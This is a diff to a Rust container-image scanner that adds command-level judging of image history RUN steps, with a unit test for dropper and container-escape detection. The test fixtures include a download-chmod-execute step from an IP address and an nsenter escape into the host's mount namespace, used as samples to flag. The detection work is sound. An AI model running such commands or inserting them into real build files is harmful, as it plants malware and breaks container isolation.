@@ -1,5 +1,7 @@
 //! History analyzer: each `created_by` of the image history is checked with the same
 //! literal search, confirmations and wallet check as scripts (`curl | sh` in a `RUN` step).
+//! Each `RUN` step's script is also judged as one command sequence ([`crate::behaviour`]:
+//! miner command lines, fetch-and-run, reverse shells, ...), as run (HIGH).
 //! Metadata-only steps (`ENV`, `CMD`, `ENTRYPOINT`, `EXPOSE` with no layer) are left to the
 //! config analyzer, which sees their final values, so one fact is not reported twice.
 
@@ -39,6 +41,11 @@ impl Analyzer for HistoryAnalyzer {
             let subject = Subject::History { step };
             out.extend(content::scan_text(&self.sigs, &h.created_by, &subject));
             out.extend(wallet::scan_text(&h.created_by, &subject));
+            if let Some(script) = crate::shell::history_script(&h.created_by) {
+                let cmds = crate::behaviour::script_commands(script);
+                let found = crate::behaviour::judge(&self.sigs.behaviour, &cmds);
+                out.extend(crate::behaviour::signals(found, &subject, true));
+            }
         }
     }
 }
@@ -93,5 +100,54 @@ mod tests {
         assert_eq!(out.len(), 1, "{out:?}");
         assert_eq!(out[0].subject, Subject::History { step: 1 });
         assert_eq!(out[0].signature, "download-pipe-shell");
+    }
+
+    fn findings(steps: &[&str]) -> Vec<(String, crate::findings::Severity, usize)> {
+        let cfg = ImageConfig {
+            history: steps
+                .iter()
+                .map(|s| HistoryEntry {
+                    created_by: s.to_string(),
+                    ..Default::default()
+                })
+                .collect(),
+            ..Default::default()
+        };
+        let a = HistoryAnalyzer::new(Arc::new(Signatures::embedded().unwrap()));
+        let mut out = Vec::new();
+        a.image(
+            &image_with(cfg),
+            &std::collections::HashMap::new(),
+            &ImageFacts::default(),
+            &mut out,
+        );
+        crate::analyzers::collate(&out, &|_, _| None)
+            .into_iter()
+            .map(|f| {
+                let step = match f.evidence[0].location {
+                    crate::findings::Location::History { step } => step,
+                    _ => usize::MAX,
+                };
+                (f.id, f.severity, step)
+            })
+            .collect()
+    }
+
+    #[test]
+    fn run_steps_are_judged_as_commands() {
+        use crate::findings::Severity::High;
+        let got = findings(&[
+            "RUN /bin/sh -c apt-get update && apt-get install -y curl gnupg && curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /usr/share/keyrings/docker.gpg # buildkit",
+            "RUN /bin/sh -c cd /opt && wget -q http://203.0.113.5/sys && chmod +x sys && ./sys --version # buildkit",
+            "/bin/sh -c curl -o /tmp/x.tgz https://example.org/x.tgz && tar xzf /tmp/x.tgz -C /opt && rm /tmp/x.tgz",
+            "RUN /bin/sh -c nsenter --target 1 --mount -- sh -c id # buildkit",
+        ]);
+        assert_eq!(
+            got,
+            [
+                ("IMG-DROPPER".into(), High, 1),
+                ("IMG-CONTAINER-ESCAPE".into(), High, 3)
+            ]
+        );
     }
 }
